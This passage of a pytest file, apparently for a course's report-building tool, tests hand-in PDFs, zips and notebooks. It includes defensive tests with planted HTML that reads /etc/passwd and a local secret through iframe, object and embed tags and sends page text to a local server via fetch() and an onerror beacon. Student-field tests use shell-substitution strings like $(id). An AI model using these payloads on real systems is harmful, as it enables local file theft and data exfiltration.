"""The hand-in files: each assignment's exact file names, PDFs within their page limits and free of what a grader
objects to (raw TeX, absolute paths, tracebacks, "None" as a number), name and ID fields, the PDF title, STIX math;
the code zips and the a3 notebook run alone (the slow part: `make check-reports`, see test_zips_run_alone)."""
import base64
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import matplotlib
import nbformat
import pytest

matplotlib.use("Agg")
import matplotlib.pyplot as plt  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools"))
import build_reports  # noqa: E402
import student_fields  # noqa: E402
import landed  # noqa: E402

HAVE_PDF_TOOLS = build_reports.chromium() is not None and all(
    shutil.which(t) for t in ("pdftotext", "pdfinfo"))
needs_pdf_tools = pytest.mark.skipif(not HAVE_PDF_TOOLS, reason="Chromium and poppler-utils are needed "
                                     "(apt-get install chromium poppler-utils)")
STUDENT = dict(name="Ada Lovelace", id="1815", partner="Charles Babbage", partner_id="1791")


# ------------------------------------------------------------------------------------------------ PDF reading
def pdf_info(pdf):
    """pdfinfo's fields as a dict (Pages, Title, ...)."""
    out = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    return dict(line.split(":", 1) for line in out.splitlines() if ":" in line)


def pdf_pages(pdf):
    return int(pdf_info(pdf)["Pages"].strip())


def pdf_text(pdf):
    return subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout


def typeset_fonts(html):
    """The font families MathJax set the formulas of an HTML report in, read from the page after its scripts ran
    (Chromium embeds web fonts in the PDF without their names)."""
    dom = subprocess.run([build_reports.chromium(), "--headless", "--no-sandbox", "--disable-gpu",
                          "--virtual-time-budget=30000", "--run-all-compositor-stages-before-draw", "--dump-dom",
                          Path(html).as_uri()], capture_output=True, text=True, timeout=300).stdout
    return set(re.findall(r'<span class="m[ino]"[^>]*font-family: ?(\w+)', dom))


def looks_like_code(line):
    """A printed line of Python (code is shown in the a3 question PDFs and the hand-in appendices)."""
    return bool(re.search(r"[\"'=]|\b(def|return|raise|except|import|print)\b|^\s{2,}", line))


def grader_objections(text):
    """What a grader would object to in a PDF's text (the code appendix and printed code lines excluded)."""
    prose = text.split("Appendix: code")[0]
    lines = [line for line in prose.splitlines() if not looks_like_code(line)]
    problems = []
    for line in lines:
        if "$" in line:
            problems.append(f"raw $ (TeX not typeset?): {line!r}")
        if re.search(r"(?<![\w.])/(root|work|home|Users|tmp)/", line):
            problems.append(f"absolute path: {line!r}")
        if re.search(r"Traceback|\b[A-Z]\w*Error\b|\bError:", line):
            problems.append(f"error text: {line!r}")
        if re.search(r"\b(at|iteration|epoch|after|of|in)\s+None\b|\bNone\s*(%|s\b|points|epochs?|iterations?)", line):
            problems.append(f"None printed as a number: {line!r}")
    return problems


# ------------------------------------------------------------------------------------------------ tiny repository
def executed_notebook(title, printed="the answer is 42"):
    """A small executed notebook: a Markdown cell with math, a code cell with printed text and a figure."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(f"# {title}\n\nEuler: $e^{{i\\pi}} + 1 = 0$"),
                nbformat.v4.new_code_cell("import helpers; helpers.banner()"),
                nbformat.v4.new_code_cell(f"print('{printed}')")]
    fig, ax = plt.subplots(figsize=(2, 2))
    ax.plot([0, 1], [0, 1])
    png = io.BytesIO()
    fig.savefig(png, format="png")
    plt.close(fig)
    nb.cells[1].outputs = [nbformat.v4.new_output("stream", name="stdout", text="Full mode ... | CPU X | torch\n")]
    nb.cells[2].outputs = [nbformat.v4.new_output("stream", name="stdout", text=f"{printed}\n"),
                           nbformat.v4.new_output("display_data", data={
                               "image/png": base64.b64encode(png.getvalue()).decode(), "text/plain": "<Figure>"})]
    return nb


def claims_cell(*claims):
    """A cell tagged "claims" with the outputs rules.claim leaves, one per (sentence, holds); holds None: not judged."""
    cell = nbformat.v4.new_code_cell("\n".join(f"rules.claim(True, {s!r})" for s, _ in claims))
    cell.metadata["tags"] = [build_reports.CLAIMS_TAG]
    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/plain": s, "text/markdown": s},
                                           metadata={build_reports.rules.CLAIM_KEY: {"sentence": s, "holds": h}})
                    for s, h in claims]
    return cell


def land(nb, path):
    """Write `nb` to `path` as `make all` lands it: every code cell run once, in order, its outputs in the manifest."""
    cells = [c for c in nb.cells if c.cell_type == "code" and c.source.strip()]
    for count, cell in enumerate(cells, 1):
        cell.execution_count = count
    nbformat.write(nb, path)
    landed.record(path.parents[2], path, nb)


@pytest.fixture
def tiny_repo(tmp_path, monkeypatch):
    """A throwaway repository: a3_feedforward and handin1 with one executed notebook and a module each."""
    (tmp_path / "helpers.py").write_text("import os\n\nX = 1\n\n\ndef used():\n    return X\n\n\ndef unused():\n"
                                         "    return os.sep\n")
    (tmp_path / "requirements.txt").write_text("numpy\n")
    for assignment, module in (("a3_feedforward", "ffnet"), ("handin1_numpy_mlp", "numpy_mlp")):
        folder = tmp_path / "notebooks" / assignment
        folder.mkdir(parents=True)
        (folder / f"{module}.py").write_text("import helpers\n\n\ndef model():\n    return helpers.used()\n")
        nb = executed_notebook(f"{assignment}: tiny")
        nb.cells.insert(2, nbformat.v4.new_code_cell(f"import {module}\nprint({module}.model())"))
        land(nb, folder / "part1_tiny.ipynb")
    (tmp_path / "results" / "handin1_numpy_mlp").mkdir(parents=True)
    (tmp_path / "results" / "handin1_numpy_mlp" / "part1_tiny.json").write_text(json.dumps(
        {"hardware": "CPU A, 2 threads", "precision": "float32", "notebook_seconds": 60}))
    monkeypatch.setattr(build_reports, "REPO", tmp_path)
    monkeypatch.setattr(build_reports, "OUT", tmp_path / "reports")
    monkeypatch.setattr(build_reports, "HTML_DIR", tmp_path / "build" / "reports")
    return tmp_path


def test_names_give_the_a3_file_name():
    assert student_fields.name_parts("Ada Lovelace") == ("Lovelace", "Ada")
    assert student_fields.name_parts("Lovelace, Ada King") == ("Lovelace", "Ada-King")
    assert student_fields.name_parts("van der Berg, Anna") == ("van-der-Berg", "Anna")
    assert student_fields.name_parts("") == ("Lastname", "Firstname")
    assert student_fields.a3_prefix(dict(name="")) == "Lastname_Firstname_Assgn3"
    assert student_fields.display_name("van der Berg, Anna") == "Anna van der Berg"


def test_student_settings_are_saved_once_and_read_back(tiny_repo):
    assert build_reports.read_student()["name"] == ""
    odd = dict(name='Ada "the first" \\Lovelace\\ ünïcødé 李', id="$HOME `id` $(id); 'x'", partner="Zoë\x7f\x01",
               partner_id="a\\nb \\u0041 \"\"\"")
    student_fields.save(build_reports.student_file(), odd)
    assert build_reports.read_student() == odd  # read back by tomllib, every character as written


def test_expected_files_follow_the_specs():
    assert build_reports.expected_files("a3_feedforward", STUDENT) == ["code.zip", "report.pdf"]
    assert build_reports.expected_files("hw1_mlp_cifar10", STUDENT) == ["code.zip", "report.pdf", "requirements.txt"]
    assert build_reports.expected_files("handin2_pytorch_cnn", STUDENT) == ["code.zip", "report.pdf"]
    a3 = build_reports.expected_files("a3_cnn_catdog", STUDENT)
    assert "Lovelace_Ada_Assgn3.ipynb" in a3 and len(a3) == 7  # the notebook and six PDFs, one per question
    assert all(name.startswith("Lovelace_Ada_Assgn3") for name in a3)


def test_module_excerpt_keeps_only_what_is_used(tiny_repo):
    module = build_reports.Module(tiny_repo / "helpers.py")
    text = module.excerpt({"used"})
    assert "def used" in text and "X = 1" in text and "def unused" not in text and "import os" not in text




def test_figures_are_numbered_under_their_section():
    import nbformat
    png = {"image/png": "iVBORw0KGgo="}
    cells = [nbformat.v4.new_markdown_cell("## (a) Learning **curves**"),
             nbformat.v4.new_code_cell(outputs=[nbformat.v4.new_output("display_data", data=png)]),
             nbformat.v4.new_code_cell(outputs=[nbformat.v4.new_output("stream", text="no figure")]),
             nbformat.v4.new_code_cell(outputs=[nbformat.v4.new_output("display_data", data=png)])]
    assert build_reports.add_captions(cells) == 2
    captions = [o.data["text/html"] for c in cells[1:] for o in c.outputs if "text/html" in o.get("data", {})]
    assert captions == ["<p class='caption'>Figure 1: (a) Learning curves</p>",
                        "<p class='caption'>Figure 2: (a) Learning curves</p>"]




def test_reports_leave_out_claims_stderr_and_printed_code():
    listing = nbformat.v4.new_code_cell("helpers.show_code(helpers.fit)")
    listing.outputs = [nbformat.v4.new_output("stream", name="stdout", text="def fit():\n    pass\n")]
    work = nbformat.v4.new_code_cell("train()")
    work.outputs = [nbformat.v4.new_output("stream", name="stderr", text="epoch 1/20\n"),
                    nbformat.v4.new_output("stream", name="stdout", text="20 epochs in 3.0 s\n")]
    cells = [claims_cell(("A beats B", True)), listing, work]
    printed = build_reports.prepare_for_print(cells, code="hidden", console=True)
    assert [[o.get("text") for o in c.outputs] for c in printed] == [["20 epochs in 3.0 s\n"]]  # printed as written
    shown = build_reports.prepare_for_print(cells, code="shown", console=False)
    assert [c.source for c in shown] == [listing.source, work.source]  # code printed; no claims, no console lines


def test_the_appendix_names_only_notebooks_with_discussions(tiny_repo):
    paths = build_reports.helpers.notebook_paths("handin1_numpy_mlp", tiny_repo)
    head = build_reports.appendix_cells("handin1_numpy_mlp", paths, {})[0].source
    assert "discussions" not in head
    nb = nbformat.read(paths[0], as_version=4)
    nb.cells[2].metadata["tags"] = [build_reports.DISCUSSION_TAG]
    nbformat.write(nb, paths[0])
    head = build_reports.appendix_cells("handin1_numpy_mlp", paths, {})[0].source
    assert "The code that writes the discussions of part1_tiny is left out" in head


def test_a_contradicted_claim_stops_the_build_and_keeps_the_old_reports(tiny_repo, capsys):
    path = tiny_repo / "notebooks" / "handin1_numpy_mlp" / "part1_tiny.ipynb"
    nb = nbformat.read(path, as_version=4)
    nb.cells.append(claims_cell(("Adam ends ahead of plain SGD", False), ("ReLU trains faster", None),
                                ("The network learns", True)))
    nbformat.write(nb, path)
    old = tiny_repo / "reports" / "handin1_numpy_mlp" / "report.pdf"
    old.parent.mkdir(parents=True)
    old.write_bytes(b"the previous report")
    with pytest.raises(build_reports.NotebooksRefused) as refused:
        build_reports.build("handin1_numpy_mlp", STUDENT)
    message = str(refused.value)
    assert "notebooks/handin1_numpy_mlp/part1_tiny.ipynb" in message and "make all A=" in message
    assert "Adam ends ahead of plain SGD" in message and "ReLU trains faster" in message  # not judged: smoke run
    assert "The network learns" not in message
    assert sorted(p.name for p in old.parent.parent.iterdir()) == ["handin1_numpy_mlp"]  # nothing half-built
    assert [p.name for p in old.parent.iterdir()] == ["report.pdf"] and old.read_bytes() == b"the previous report"
    assert build_reports.main(["handin1_numpy_mlp"]) == 1
    assert "Adam ends ahead of plain SGD" in capsys.readouterr().err


@pytest.mark.parametrize("plant, reason", [
    (lambda nb: nb.cells[1].outputs[0].update(text="*** SMOKE MODE (SMOKE=1): tiny data\n"), "smoke run"),
    (lambda nb: nb.cells[3].update(execution_count=None, outputs=[]), "partial run"),
    (lambda nb: nb.cells[3].outputs[0].update(text="the answer is 41\n"), "differ from what `make all` landed"),
    (lambda nb: nb.cells[3].outputs.append(nbformat.v4.new_output("error", ename="E", evalue="x", traceback=[])),
     "an error")])
def test_a_smoke_partial_or_edited_notebook_is_refused_by_name(tiny_repo, plant, reason):
    path = tiny_repo / "notebooks" / "handin1_numpy_mlp" / "part1_tiny.ipynb"
    nb = nbformat.read(path, as_version=4)
    assert landed.problems(tiny_repo, path, nb) == []  # as landed
    plant(nb)
    nbformat.write(nb, path)  # as a run in Jupyter or a hand edit leaves it: not through make all
    with pytest.raises(build_reports.NotebooksRefused) as refused:
        build_reports.build("handin1_numpy_mlp", STUDENT)
    assert "notebooks/handin1_numpy_mlp/part1_tiny.ipynb" in str(refused.value) and reason in str(refused.value)
    assert "git checkout notebooks/handin1_numpy_mlp/part1_tiny.ipynb" in str(refused.value)
    assert not (tiny_repo / "reports" / "handin1_numpy_mlp").exists()


def test_committed_notebooks_are_what_make_all_landed():
    """Every committed notebook holds a full run whose outputs the runner noted in results/landed.json."""
    repo = build_reports.REPO
    found = {str(p.relative_to(repo)): landed.problems(repo, p, nbformat.read(p, as_version=4))
             for p in sorted((repo / "notebooks").rglob("*.ipynb")) if ".ipynb_checkpoints" not in p.parts}
    assert not {p: r for p, r in found.items() if r}


def test_a_cell_tagged_to_show_its_code_keeps_it_in_a_report_without_code():
    shown, hidden = nbformat.v4.new_code_cell("def recorder(): pass"), nbformat.v4.new_code_cell("train()")
    shown.metadata["tags"] = [build_reports.SHOW_CODE_TAG]
    shown.outputs = hidden.outputs = [nbformat.v4.new_output("stream", name="stdout", text="out\n")]
    cells = build_reports.prepare_for_print([shown, hidden], code="hidden", console=True)
    assert [build_reports.input_removed(c) for c in cells] == [False, True]
    plot = nbformat.v4.new_code_cell("fig, ax = plt.subplots()")
    plot.metadata["tags"] = [build_reports.HIDE_INPUT_TAG]
    plot.outputs = shown.outputs
    cells = build_reports.prepare_for_print([plot], code="shown", console=True)
    assert build_reports.input_removed(cells[0]) and cells[0].outputs  # outputs without code
    cells = build_reports.prepare_for_print([plot], code="hidden", console=True)  # tagged, in a report without code
    assert cells[0].metadata["tags"] == [build_reports.HIDE_INPUT_TAG] and build_reports.input_removed(cells[0])


def test_code_zip_is_one_folder_that_runs_alone(tiny_repo):
    target = tiny_repo / "code.zip"
    build_reports.code_zip("handin1_numpy_mlp", target)
    names = sorted(zipfile.ZipFile(target).namelist())
    assert names == ["handin1_numpy_mlp/README.md", "handin1_numpy_mlp/helpers.py", "handin1_numpy_mlp/numpy_mlp.py",
                     "handin1_numpy_mlp/part1_tiny.ipynb", "handin1_numpy_mlp/requirements.txt"]


def test_title_block_has_fields_and_placeholders(tiny_repo):
    empty = dict(name="", id="", partner="", partner_id="")
    html = build_reports.title_html("handin1_numpy_mlp", empty)
    assert build_reports.PLACEHOLDER_NAME in html and build_reports.PLACEHOLDER_ID in html
    assert "Computed on CPU A, 2 threads." in html and "Arithmetic: float32." in html
    assert "Report built" not in html and "Run time" not in html  # no date or timing bookkeeping on the title page
    html = build_reports.title_html("a3_feedforward", STUDENT)
    assert "Ada Lovelace" in html and "1815" in html and "Charles Babbage" in html  # the pair hand-in names both


def test_distinct_hardware_is_listed_once():
    results = {"ex1_a": {"hardware": "CPU A"}, "ex2_b": {"hardware": "CPU A"}, "ex4_c": {"hardware": "GPU B"}}
    assert build_reports.distinct_line(results, "hardware") == "Ex. 1, Ex. 2: CPU A; Ex. 4: GPU B"
    assert [build_reports.short_name(n) for n in ("p3a_simple_cnn", "task2_seeds", "q1_dataset",
                                                  "bonus_transfer_learning", "written_questions")] == [
        "3A", "Task 2", "Q1", "bonus", "written questions"]
    assert build_reports.distinct_line({"ex1_a": {"hardware": "CPU A"}, "ex2_b": {"hardware": "CPU A"}},
                                       "hardware") == "CPU A"


@needs_pdf_tools
def test_tiny_reports_become_pdfs(tiny_repo):
    path = tiny_repo / "notebooks" / "handin1_numpy_mlp" / "part1_tiny.ipynb"
    nb = nbformat.read(path, as_version=4)
    nb.cells.append(claims_cell(("The tiny network answers 42", True)))
    land(nb, path)
    made = build_reports.build("handin1_numpy_mlp", STUDENT)
    assert sorted(made) == build_reports.expected_files("handin1_numpy_mlp")
    pdf = tiny_repo / "reports" / "handin1_numpy_mlp" / "report.pdf"
    text = pdf_text(pdf)
    assert "Ada Lovelace" in text and "1815" in text
    assert "the answer is 42" in text and "$e^" not in text  # printed output kept; MathJax typeset the formula
    assert "Full mode" not in text  # the banner's console line: the title block names the hardware
    assert "Appendix: code" in text and "def model" in text and "def used" in text and "def unused" not in text
    assert text.count("print('the answer is 42')") == 1  # the code appears once: in the appendix
    assert pdf_info(pdf)["Title"].strip() == "Hand-in 1: a NumPy neural network on MNIST"
    assert "answers 42" not in text and "discussions" not in text  # no claims; no discussion cells to leave out
    with zipfile.ZipFile(tiny_repo / "reports" / "handin1_numpy_mlp" / "code.zip") as z:  # the claims stay there
        assert "answers 42" in z.read("handin1_numpy_mlp/part1_tiny.ipynb").decode()
    fonts = typeset_fonts(tiny_repo / "build" / "reports" / "handin1_numpy_mlp.html")
    assert fonts and all(f.startswith("STIXMathJax") for f in fonts), fonts  # not the fallback with floating accents
    build_reports.build("a3_feedforward", STUDENT)
    text = pdf_text(tiny_repo / "reports" / "a3_feedforward" / "report.pdf")
    assert "print(" not in text and "the answer is 42" not in text  # no code and no console lines in this report


# ------------------------------------------------------------------------------------------------ untrusted HTML
class RecordingServer:
    """A local web server on a free port, in a thread, that records every request it gets."""

    def __init__(self):
        import http.server
        import threading
        self.requests = []
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                recorder.requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    server = RecordingServer()
    yield server
    server.close()


def planted_html(port, secret):
    """HTML that would print /etc/passwd and a local file, and send the page's text to a local server."""
    url = f"http://127.0.0.1:{port}"
    return (f'<p>planted output follows</p><iframe src="file:///etc/passwd" width="600" height="300"></iframe>'
            f'<object data="{secret.as_uri()}" type="text/plain" width="600" height="200">fallback</object>'
            f'<embed src="{secret.as_uri()}" type="text/plain" width="600" height="200">'
            f'<script>fetch("{url}/script?" + encodeURIComponent(document.body.innerText), {{mode: "no-cors"}})'
            '</script>'
            f'<img src="nowhere.png" onerror="new Image().src=\'{url}/onerror?\' + document.title">'
            f'<img src="{url}/img"><link rel="stylesheet" href="{url}/css"><p style="background: url({url}/css-url)">'
            f'styled</p><p>planted output ends</p>')


REFRESH = '<meta http-equiv="refresh" content="0; url=file:///etc/passwd">'  # a navigation: no page policy stops it


@needs_pdf_tools
def test_the_planted_html_leaks_without_the_defences(tmp_path, listener):
    secret = tmp_path / "local_secret.txt"
    secret.write_text("LOCAL-SECRET-7f3a\n")
    page, pdf = tmp_path / "plain.html", tmp_path / "plain.pdf"
    page.write_text(f"<html><body>{planted_html(listener.port, secret)}</body></html>")
    subprocess.run([build_reports.chromium(), "--headless", "--no-sandbox", "--disable-gpu",
                    f"--user-data-dir={tmp_path}", "--virtual-time-budget=5000", f"--print-to-pdf={pdf}",
                    page.as_uri()], capture_output=True, timeout=300)
    text = pdf_text(pdf)  # the control: what the tests below keep out is there when printed as it was before
    assert "root:" in text and "LOCAL-SECRET" in text and listener.requests


@needs_pdf_tools
def test_planted_html_prints_nothing_of_the_machine_and_sends_nothing(tiny_repo, listener):
    secret = tiny_repo / "local_secret.txt"
    secret.write_text("LOCAL-SECRET-7f3a a file of this machine\n")
    path = tiny_repo / "notebooks" / "handin1_numpy_mlp" / "part1_tiny.ipynb"
    nb = nbformat.read(path, as_version=4)
    html = planted_html(listener.port, secret) + REFRESH
    nb.cells[2].outputs.append(nbformat.v4.new_output("display_data", data={"text/html": html, "text/plain": "x"}))
    nb.cells[2].outputs.append(nbformat.v4.new_output("display_data", data={"text/markdown": html}))
    nb.cells.append(nbformat.v4.new_markdown_cell(f"## Raw HTML in Markdown\n\n{html}\n\nThe end."))
    land(nb, path)
    build_reports.build("handin1_numpy_mlp", STUDENT)
    text = pdf_text(tiny_repo / "reports" / "handin1_numpy_mlp" / "report.pdf")
    assert "planted output follows" in text and "planted output ends" in text and "The end." in text
    assert "root:x:0:0" not in text and "root:" not in text and "LOCAL-SECRET" not in text
    assert "fetch(" not in text and "fallback" not in text  # scripts and objects left out with what they hold
    assert listener.requests == []
    page = (tiny_repo / "build" / "reports" / "handin1_numpy_mlp.html").read_text()
    assert "<iframe" not in page and "<object" not in page and "<embed" not in page and "onerror" not in page


@needs_pdf_tools
def test_the_page_policy_alone_stops_planted_scripts_and_frames(tiny_repo, listener):
    secret = tiny_repo / "local_secret.txt"
    secret.write_text("LOCAL-SECRET-7f3a\n")
    nonce = build_reports.safe_html.nonce()
    page = (f'<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" '
            f'content="{build_reports.safe_html.policy(nonce)}"></head><body>'
            f'{planted_html(listener.port, secret)}</body></html>')  # not sanitized: the policy alone
    pdf = tiny_repo / "policy.pdf"
    assert build_reports.print_pdf(page, pdf, "policy")
    text = pdf_text(pdf)
    assert "planted output ends" in text and "root:x:0:0" not in text and "LOCAL-SECRET" not in text
    assert listener.requests == []


@needs_pdf_tools
def test_chromium_reaches_no_network_even_without_the_policy(tiny_repo, listener):
    url = f"http://127.0.0.1:{listener.port}"
    page = (f'<html><body><p>offline</p><img src="{url}/img"><script>fetch("{url}/fetch", {{mode: "no-cors"}}); '
            f'new Image().src = "http://localhost:{listener.port}/name";</script></body></html>')
    assert build_reports.print_pdf(page, tiny_repo / "offline.pdf", "offline")
    assert listener.requests == []


def test_the_printed_page_runs_only_its_own_scripts(tiny_repo):
    html = build_reports.html_of(build_reports.new_notebook([nbformat.v4.new_markdown_cell("$x$")]), "t")
    first = re.match(r"\s*(<meta[^>]*>)", html.split("<head>", 1)[1]).group(1)  # before any script
    assert 'http-equiv="Content-Security-Policy"' in first and "default-src 'none'" in first, first
    nonce = re.search(r"'nonce-([\w-]+)'", first).group(1)
    scripts = re.findall(r"<script[^>]*>", html)
    assert len(scripts) == 3 and all(f'nonce="{nonce}"' in s for s in scripts), scripts  # MathJax x2, fit_tables
    assert "https://" not in "".join(scripts) and "require.js" not in html  # nothing from the web


# ------------------------------------------------------------------------------------------------ the student
def an_old_set(repo, assignment="handin1_numpy_mlp"):
    """A previous hand-in set under reports/<assignment>/, as {file name: bytes}."""
    folder = repo / "reports" / assignment
    folder.mkdir(parents=True)
    for name in build_reports.expected_files(assignment, STUDENT):
        (folder / name).write_bytes(f"the previous {name}".encode())
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def files_of(folder):
    """{file name: bytes} of a folder."""
    return {p.name: p.read_bytes() for p in folder.iterdir()}


@pytest.mark.parametrize("name, problem", [
    ("A" * 150 + " " + "B" * 149, "it is 300 characters long; at most 60"),
    ("Ada/Lovelace", "it holds '/'"),
    ("Ada", "it is one word"),
    ("Anna van der Berg", 'it has 4 words and no comma'),
])
def test_a_refused_name_saves_and_deletes_nothing(tiny_repo, name, problem):
    student_fields.save(build_reports.student_file(), STUDENT)
    saved = build_reports.student_file().read_bytes()
    old = an_old_set(tiny_repo)
    with pytest.raises(SystemExit) as refused:
        build_reports.main(["--name", name, "--id", "42", "handin1_numpy_mlp"])
    message = str(refused.value)
    assert message.startswith("NAME ") and problem in message and "Fix: " in message, message
    assert "Nothing was saved or built" in message and len(message.splitlines()) == 2  # ID 42 is fine
    assert build_reports.student_file().read_bytes() == saved
    assert files_of(tiny_repo / "reports" / "handin1_numpy_mlp") == old
    assert sorted(p.name for p in (tiny_repo / "reports").iterdir()) == ["handin1_numpy_mlp"]


def test_student_field_rules():
    ok = dict(name="van der Berg, Anna", id="s-1234567", partner="Zoë O'Brien-Smith", partner_id="A0123456X")
    assert student_fields.problems(ok) == []
    assert student_fields.problems(dict(name="", id="")) == []  # unset: the title pages show a placeholder
    found = student_fields.problems(dict(name="Lovelace,", id="12 34", partner="Ada $(id) Lovelace",
                                         partner_id="x" * 21), given={"id"})
    assert [m.split(" is refused")[0] for m in found] == ["name in student.toml 'Lovelace,'", "ID '12 34'",
                                                         "partner in student.toml 'Ada $(id) Lovelace'",
                                                         f"partner_id in student.toml '{'x' * 21}'"]
    assert "make reports NAME=... replaces the saved one" in found[0] and "hyphens only" in found[1]
    assert "'$' '(' ')'" in found[2] and "at most 20" in found[3]
    assert "bytes long" in student_fields.problems(dict(name="\U00020000" * 30 + " " + "\U00020000" * 29))[0]


def test_a_second_build_is_refused_while_one_runs(tiny_repo, monkeypatch):
    import threading
    entered, release, results = threading.Event(), threading.Event(), {}
    real_zip = build_reports.code_zip

    def slow_zip(assignment, target):
        entered.set()
        assert release.wait(60)
        return real_zip(assignment, target)

    monkeypatch.setattr(build_reports, "code_zip", slow_zip)
    first = threading.Thread(target=lambda: results.setdefault("first", build_reports.main(
        ["--name", "Ada Lovelace", "--id", "1815", "handin1_numpy_mlp"])))
    first.start()
    try:
        assert entered.wait(120)
        with pytest.raises(SystemExit) as refused:
            build_reports.main(["--name", "Grace Hopper", "--id", "1906", "handin1_numpy_mlp"])
        assert "another build of the hand-in files" in str(refused.value) and "nothing was saved" in str(refused.value)
        assert build_reports.read_student()["name"] == "Ada Lovelace"
    finally:
        release.set()
        first.join(120)
    assert results["first"] == 0
    folder = tiny_repo / "reports" / "handin1_numpy_mlp"
    assert sorted(p.name for p in folder.iterdir()) == build_reports.expected_files("handin1_numpy_mlp")
    if HAVE_PDF_TOOLS:
        text = pdf_text(folder / "report.pdf")
        assert "Ada Lovelace" in text and "Grace Hopper" not in text and "1906" not in text
    assert build_reports.main(["--name", "Grace Hopper", "handin1_numpy_mlp"]) == 0  # the lock is free again


def test_ctrl_c_during_a_build_keeps_the_old_set(tiny_repo, monkeypatch, capsys):
    old = an_old_set(tiny_repo)

    def interrupted_zip(assignment, target):
        target.write_bytes(b"half a zip")
        raise KeyboardInterrupt

    monkeypatch.setattr(build_reports, "code_zip", interrupted_zip)
    assert build_reports.main(["handin1_numpy_mlp"]) == 130
    assert "handin1_numpy_mlp: interrupted (Ctrl-C): not built; reports/handin1_numpy_mlp/ is as it was" in (
        capsys.readouterr().err)
    assert files_of(tiny_repo / "reports" / "handin1_numpy_mlp") == old
    assert sorted(p.name for p in (tiny_repo / "reports").iterdir()) == ["handin1_numpy_mlp"]  # no partial folder


def test_zipped_files_unpack_readable_by_others(tiny_repo, tmp_path):
    for path in tiny_repo.rglob("*.py"):
        path.chmod(0o600)  # as a umask of 077 leaves them
    target = tiny_repo / "code.zip"
    build_reports.code_zip("handin1_numpy_mlp", target)
    with zipfile.ZipFile(target) as z:
        assert {info.filename: oct(info.external_attr >> 16 & 0o777) for info in z.infolist()} == dict.fromkeys(
            z.namelist(), "0o644")
        z.extractall(tmp_path / "zipfile")
    if shutil.which("unzip"):  # unzip applies the zipped modes (Python's zipfile does not)
        subprocess.run(["unzip", "-q", str(target), "-d", str(tmp_path / "unzip")], check=True)
        modes = {p.name: oct(os.stat(p).st_mode & 0o777) for p in (tmp_path / "unzip").rglob("*") if p.is_file()}
        assert modes == dict.fromkeys(modes, "0o644") and len(modes) == 5
    unpacked = tmp_path / "zipfile" / "handin1_numpy_mlp" / "helpers.py"
    assert unpacked.read_text() == (tiny_repo / "helpers.py").read_text()


# ----------------------------------------------------------------------------------- the real hand-in files
@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """Every assignment's hand-in files, built from the committed notebooks into a temporary folder."""
    if not HAVE_PDF_TOOLS:
        pytest.skip("Chromium and poppler-utils are needed (apt-get install chromium poppler-utils)")
    out = tmp_path_factory.mktemp("reports")
    saved = build_reports.OUT, build_reports.HTML_DIR
    build_reports.OUT, build_reports.HTML_DIR = out, out / "html"
    try:
        for assignment in build_reports.SUBMISSIONS:
            build_reports.build(assignment, STUDENT)
    finally:
        build_reports.OUT, build_reports.HTML_DIR = saved
    return out


@needs_pdf_tools
@pytest.mark.parametrize("assignment", list(build_reports.SUBMISSIONS))
def test_hand_in_files_are_exactly_what_the_spec_names(built, assignment):
    assert sorted(p.name for p in (built / assignment).iterdir()) == build_reports.expected_files(assignment, STUDENT)


@needs_pdf_tools
@pytest.mark.parametrize("assignment", list(build_reports.SUBMISSIONS))
def test_pdfs_are_within_limits_and_clean(built, assignment):
    limit = build_reports.SUBMISSIONS[assignment]["max_pages"]
    for pdf in sorted((built / assignment).glob("*.pdf")):
        text = pdf_text(pdf)
        assert pdf_pages(pdf) <= limit, f"{pdf.name}: {pdf_pages(pdf)} pages, the limit is {limit}"
        assert grader_objections(text) == [], pdf.name
        assert "Ada Lovelace" in text and "1815" in text, f"{pdf.name}: the name and ID fields"
        title = pdf_info(pdf)["Title"].strip()
        assert title.startswith(build_reports.helpers.ASSIGNMENTS[assignment][0]), f"{pdf.name}: title {title!r}"
    pages = [p for p in sorted((built / "html").glob(f"{assignment}*.html")) if "$" in p.read_text().split("<main", 1)[-1]]
    fonts = typeset_fonts(pages[0])  # one page with formulas: the MathJax configuration is the same for all
    assert fonts and all(f.startswith("STIXMathJax") for f in fonts), f"{pages[0].name}: math fonts {fonts}"


@needs_pdf_tools
def test_a3_notebook_is_self_contained_and_in_question_order(built):
    nb = nbformat.read(built / "a3_cnn_catdog" / "Lovelace_Ada_Assgn3.ipynb", as_version=4)
    nbformat.validate(nb)
    code = "\n".join(c.source for c in nb.cells if c.cell_type == "code")
    assert not re.search(r"(?m)^\s*(import|from)\s+(helpers|rules|catdog)\b", code)
    assert not re.search(r"\b(helpers|rules|catdog)\.(?!py\b)\w", code)
    headings = [c.source.splitlines()[0] for c in nb.cells if c.cell_type == "markdown" and c.source.startswith("# ")]
    order = [next(i for i, h in enumerate(headings) if key in h) for key in
             ("Written Questions", "Programming Question 1", "Programming Question 2", "Programming Question 3")]
    assert order == sorted(order)
    assert all(c.outputs for c in nb.cells if c.cell_type == "code" and c.source.startswith("banner("))  # outputs kept


# ------------------------------------------------------------------------------------- runs alone (slow)
def data_root():
    """DATA_ROOT as helpers reads it (relative to the repository root), else the repository's data/."""
    value = os.environ.get("DATA_ROOT")
    return (ROOT / value).resolve() if value else ROOT / "data"


def run_notebook(path, timeout=900):
    """Execute a notebook in its own folder in smoke mode, as a grader would after unpacking: only the files beside
    it, DATA_ROOT pointing at the offline data; checks that it imported the helpers.py beside it, if any."""
    from nbclient import NotebookClient
    nb = nbformat.read(path, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(
        "import sys, pathlib\nif 'helpers' in sys.modules:\n"
